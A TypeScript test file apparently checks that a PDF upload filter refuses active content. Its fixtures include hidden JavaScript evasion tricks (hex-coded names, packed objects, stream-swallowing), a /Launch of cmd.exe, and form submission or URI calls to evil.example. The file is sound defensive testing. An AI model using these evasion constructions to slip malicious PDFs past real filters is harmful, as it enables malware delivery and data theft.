import { describe, expect, it } from 'vitest';
import { prepareUpload } from '../preparing/prepare-upload.ts';
import { packedObjects, pdfWith } from '../testing/harmful-pdfs.ts';
import { onDisk } from '../testing/on-disk.ts';
import { stream } from '../testing/twisted-pdfs.ts';

const SCRIPT = '<< /S /JavaScript /JS (app.alert(1)) >>';

/** The same stream with bytes behind what is packed in it, within its length. */
function withTail(packed: Buffer, tail: string): Buffer {
  const text = packed.toString('latin1');
  const length = Number(/\/Length (\d+)/.exec(text)?.[1]);
  return Buffer.from(
    text
      .replace(`/Length ${length}`, `/Length ${length + tail.length}`)
      .replace('\nendstream', `${tail}\nendstream`),
    'latin1',
  );
}

async function problemOf(bytes: Buffer): Promise<unknown> {
  return prepareUpload(onDisk(bytes)).then(
    () => 'taken',
    (error: unknown) => (error instanceof Error ? error.message : error),
  );
}

describe('a PDF is refused with', () => {
  it.each<[string, Buffer]>([
    ['a script that runs when it opens', pdfWith(`/OpenAction ${SCRIPT}`)],
    ['one in an object of its own', pdfWith('/OpenAction 4 0 R', SCRIPT)],
    ['one by name', pdfWith('/Names << /JavaScript << /Names [(a) 4 0 R] >> >>', '<< /S /GoTo >>')],
    ['one that nothing points at', pdfWith('', SCRIPT)],
    ['one under a name with codes for letters', pdfWith('', '<< /S /J#61vaScript /JS (a) >>')],
    ['one under a name of codes alone', pdfWith('', '<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (a) >>')],
    ['one among packed objects', pdfWith('', packedObjects([SCRIPT]))],
    ['one among packed objects with codes', pdfWith('', packedObjects(['<< /S /J#61vaScript /JS (a) >>']))],
    [
      'one whose kind stands elsewhere',
      pdfWith('/OpenAction 4 0 R', '<< /S 20 0 R /JS (a) >>', packedObjects(['/JavaScript'])),
    ],
    [
      'one behind a harmless twin of its number',
      pdfWith('', packedObjects([SCRIPT], 9), packedObjects(['null'], 9)),
    ],
    ['one in a list in a list', pdfWith('', packedObjects([`[[1 [<< /A ${SCRIPT} >>]]]`]))],
    ['one in the dictionary of a stream', pdfWith('', `<< /A ${SCRIPT} /Length 1 >> stream\na\nendstream`)],
    [
      'one inside the bytes of a stream',
      pdfWith('', `<< /Length 60 >> stream\n9 0 obj ${SCRIPT} endobj\nendstream`),
    ],
    [
      'one inside the bytes of a stream that says it is packed',
      pdfWith('', stream('/Filter /FlateDecode', `9 0 obj ${SCRIPT} endobj`)),
    ],
    [
      'one behind a comment inside the bytes of a stream',
      pdfWith('', stream('/Filter /FlateDecode', `9 0 %\nobj ${SCRIPT} endobj`)),
    ],
    [
      'one in an object that a stream before it swallows',
      pdfWith(
        '',
        Buffer.from(
          `<< /Filter /DCTDecode /Length 400 >> stream\na\nendstream endobj\n9 0 obj ${SCRIPT} endobj`,
        ),
      ),
    ],
    ['one after its end', Buffer.concat([pdfWith(''), Buffer.from(`9 0 obj ${SCRIPT} endobj`)])],
    [
      'one in its trailer',
      Buffer.from(pdfWith('').toString('latin1').replace('/Size 4', `/Size 4 /X ${SCRIPT}`), 'latin1'),
    ],
    ['one on a field', pdfWith('', packedObjects([`<< /FT /Tx /AA << /K ${SCRIPT} >> >>`]))],
    [
      'an address that is called when it opens',
      pdfWith('/OpenAction << /S /URI /URI (https://evil.example) >>'),
    ],
    [
      'an address that is called with a page',
      pdfWith(
        '',
        packedObjects(['<< /Type /Page /AA << /O 21 0 R >> >>', '<< /S /URI /URI (https://evil.example) >>']),
      ),
    ],
    ['a dialog that opens by itself', pdfWith('/OpenAction << /S /Named /N /Print >>')],
    ['a program that it starts', pdfWith('', packedObjects(['<< /S /Launch /F (cmd.exe) >>']))],
    [
      'a form that sends itself',
      pdfWith('', packedObjects(['<< /S /SubmitForm /F (https://evil.example) >>'])),
    ],
    ['data that it reads', pdfWith('', packedObjects(['<< /S /ImportData /F (a.fdf) >>']))],
    ['a form of the XML kind', pdfWith('', packedObjects(['<< /Fields [] /XFA 9 0 R >>']))],
    ['an attached file', pdfWith('', packedObjects(['<< /EmbeddedFiles << /Names [(a) 9 0 R] >> >>']))],
    [
      'the bytes of an attached file',
      pdfWith('', '<< /Type /Embedded#46ile /Length 2 >> stream\nMZ\nendstream'),
    ],
    ['a paper clip', pdfWith('', packedObjects(['<< /Subtype /FileAttachment /FS 9 0 R >>']))],
    ['a way into an attached file', pdfWith('', packedObjects(['<< /S /GoToE /D (a) >>']))],
    ['rich media', pdfWith('', packedObjects(['<< /Subtype /RichMedia >>']))],
    ['a film', pdfWith('', packedObjects(['<< /Subtype /Movie >>']))],
    ['a film whose kind stands elsewhere', pdfWith('', packedObjects(['/Movie', '<< /Subtype 20 0 R >>']))],
    ['a rendition', pdfWith('', packedObjects(['<< /S /Rendition /JS (a) >>']))],
  ])('%s', async (_case, bytes) => {
    expect(await problemOf(bytes)).toBe('pdf-active');
  });

  it.each<[string, Buffer]>([
    ['packed objects under another name', pdfWith('', packedObjects([SCRIPT], 20, '/Type /Other'))],
    [
      'packed objects in a writing that is not read here',
      pdfWith(
        '',
        Buffer.from(packedObjects([SCRIPT]).toString('latin1').replace('/FlateDecode', '/Crypt'), 'latin1'),
      ),
    ],
    [
      'packed objects inside the bytes of a stream',
      pdfWith(
        '',
        Buffer.concat([
          Buffer.from('<< /Length 999 >> stream\n9 0 obj '),
          packedObjects([SCRIPT]),
          Buffer.from(' endobj\nendstream'),
        ]),
      ),
    ],
  ])('%s, which cannot be looked into', async (_case, bytes) => {
    expect(await problemOf(bytes)).toBe('too-complex');
  });
});

describe('a PDF is taken with', () => {
  it.each<[string, Buffer]>([
    ['nothing but its page', pdfWith('')],
    ['a place where it opens', pdfWith('/OpenAction [3 0 R /FitH null]')],
    ['a jump when it opens', pdfWith('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')],
    [
      'a link to a site',
      pdfWith('', packedObjects(['<< /Subtype /Link /A << /S /URI /URI (https://bank.example) >> >>'])),
    ],
    ['a form to fill in', pdfWith('/AcroForm 4 0 R', '<< /Fields [5 0 R] >>', '<< /FT /Tx /T (name) >>')],
    ['bookmarks', pdfWith('', packedObjects(['<< /Title (a) /A << /S /GoTo /D [3 0 R] >> >>']))],
    ['a picture that is called AA', pdfWith('', packedObjects(['<< /XObject << /AA 4 0 R >> >>']))],
    [
      'the word in its text',
      pdfWith('', '<< /Length 30 >> stream\nBT (JavaScript, Launch) Tj ET\nendstream'),
    ],
    [
      'a name by chance inside packed data',
      pdfWith('', stream('/Filter /DCTDecode', 'a\u0001/XFA\u0002b/Launch\u0003')),
    ],
    [
      'a name by chance inside a picture that is not packed',
      pdfWith('', stream('/Subtype /Image', 'a/XFA\u0002b')),
    ],
    [
      'a name by chance inside packed objects',
      pdfWith('', withTail(packedObjects(['<< /Type /Font >>']), '/XFA ')),
    ],
    ['harmless packed objects', pdfWith('', packedObjects(['<< /Type /Font >>', '(JavaScript)', '[1 2 3]']))],
  ])('%s', async (_case, bytes) => {
    expect(await problemOf(bytes)).toBe('taken');
  });
});
